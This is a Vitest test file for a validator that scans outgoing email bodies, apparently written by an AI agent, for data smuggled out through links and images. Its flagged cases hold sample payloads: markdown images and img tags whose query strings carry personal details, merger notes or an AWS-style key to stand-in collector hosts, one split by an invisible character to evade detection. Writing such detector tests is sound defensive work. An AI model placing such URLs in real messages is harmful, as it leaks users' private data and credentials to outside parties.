import { describe, expect, it } from "vitest";
import { assessPayload, type PayloadAssessment, type PayloadContext } from "@mandate/validator/payload-safety/index";

const sendMail: PayloadContext = {
  destination: "smtp.acme.example",
  destinationInScope: true,
  dataClasses: ["pii"],
  tool: "send_email",
  operation: "send",
};

function assess(body: string): PayloadAssessment {
  return assessPayload(JSON.stringify({ to: "dana@customer.example", body }), sendMail);
}

function codes(assessment: PayloadAssessment): string[] {
  return assessment.findings.map((f) => `${f.code}:${f.severity}`);
}

// Assembled at run time so that no scanner mistakes this file for a leak.
const awsKey = ["AKIA", "Z7QW", "ERTY", "UIOP", "ASD4"].join("");

describe("links and images that carry data", () => {
  it.each([
    [
      "a markdown image whose query holds a sentence",
      "Thanks!\n![logo](https://pix.collector.example/p.png?d=Dana+Lee+owes+4%2C200+on+invoice+88)",
      "payload.exfiltration.data_in_image:suspicious",
    ],
    [
      "an img tag whose query holds an e-mail address",
      'Hello <img src="https://pix.collector.example/t.gif?u=dana.lee%40customer.example"> see you',
      "payload.exfiltration.data_in_image:suspicious",
    ],
    [
      "a link whose query holds notes",
      "Details here: https://notes.paste.example/save?text=Board+meets+Friday+to+approve+the+merger+with+Kite and thanks",
      "payload.exfiltration.data_in_link:suspicious",
    ],
    [
      "an image whose query holds a credential",
      `Report attached ![x](https://pix.collector.example/a.png?k=${awsKey})`,
      "payload.exfiltration.secret_in_link:critical",
    ],
    [
      "a link whose query holds a credential split by an invisible character",
      `See https://paste.example/n?key=${awsKey.slice(0, 8)}\u200d${awsKey.slice(8)} for the setup`,
      "payload.exfiltration.secret_in_link:critical",
    ],
  ])("flags %s", (_, body, code) => {
    expect(codes(assess(body))).toContain(code);
  });

  it.each([
    ["a markdown link to a docs page", "See [the guide](https://docs.kafka.example/consumer-groups) for details."],
    ["a search link", "Try https://www.search.example/?q=kafka+rebalance when you have a minute."],
    ["an unsubscribe link", "Unsubscribe: https://news.acme.example/unsub?email=dana%40customer.example&list=7"],
    ["an image with a short id", 'Hi <img src="https://cdn.acme.example/logo.png?v=3"> there'],
    ["a tracking link", "Track it at https://parcels.example/track?id=1Z999AA10123456784 today."],
  ])("leaves %s alone", (_, body) => {
    expect(assess(body).findings).toEqual([]);
  });
});
